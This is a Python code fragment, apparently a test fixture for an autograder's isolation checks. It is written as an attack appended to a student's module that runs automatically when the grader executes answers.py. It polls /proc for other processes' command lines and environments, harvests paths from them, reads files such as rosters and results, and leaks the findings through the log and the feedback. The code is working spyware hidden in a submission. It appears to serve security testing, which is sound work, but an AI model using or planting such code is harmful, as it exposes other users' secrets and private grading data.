
# ---- attack (appended to a student module): during a regrade, read the other jobs through /proc ---------
# On a TA's machine, `regrade` and the other gradings show in /proc: their command lines and environments
# name the export, the output folder, results/<id>.json, the roster (submission_metadata.yml). For
# __SECONDS__ s this reads every process's command line and environment, collects every absolute path in
# them, adds the paths a student would guess (the test passes the real ones: the best case), and tries
# to read each (and what a folder holds, two levels down). The report goes to the log (stdout, which
# the regrade keeps) and a summary into the feedback.
import glob as _proc_glob
import json as _proc_json
import os as _proc_os
import re as _proc_re
import sys as _proc_sys
import time as _proc_time

_PROC_GUESSES = __GUESSES__
_PROC_PATH = _proc_re.compile(r"/[^\s'\"=:;,]+")


def _proc_read(path):
    try:
        with open(path, "rb") as f:
            return f.read(256)
    except OSError:
        return None


def _proc_spy():
    commands, environments, paths = {}, 0, set(_PROC_GUESSES)
    end = _proc_time.time() + __SECONDS__
    while _proc_time.time() < end:
        for entry in _proc_os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == _proc_os.getpid():
                continue
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    command = f.read().replace(b"\0", b" ").decode("utf-8", "replace").strip()
            except OSError:
                continue
            try:
                owner = _proc_os.stat(f"/proc/{entry}").st_uid
            except OSError:
                continue
            commands[entry] = (owner, command[:300])
            paths.update(_PROC_PATH.findall(command))
            try:
                with open(f"/proc/{entry}/environ", "rb") as f:
                    environment = f.read().replace(b"\0", b"\n").decode("utf-8", "replace")
                if owner != _proc_os.getuid():
                    environments += 1
                paths.update(_PROC_PATH.findall(environment))
            except OSError:
                pass
        _proc_time.sleep(0.5)
    read = []
    for path in sorted(paths):
        top = path.rstrip("/")
        tried = [path] + _proc_glob.glob(top + "/*")[:200] + _proc_glob.glob(top + "/*/*")[:200]
        read += [p for p in tried if _proc_os.path.isfile(p) and _proc_read(p)]
    report = {"uid": _proc_os.getuid(), "processes": sorted(commands.values()), "environments": environments,
              "paths": len(paths), "read": sorted(set(read))}
    print("PROC-SPY " + _proc_json.dumps(report), flush=True)  # the whole report, in the staff's log
    return (f"saw {len(commands)} processes, read {environments} environments of other users and "
            f"{len(report['read'])} of the {len(paths)} paths they named")


if _proc_sys.argv and _proc_sys.argv[0].endswith("answers.py") and not _proc_os.path.exists("proc-spy-once"):
    open("proc-spy-once", "w").close()
    raise RuntimeError("PROC-SPY " + _proc_spy())
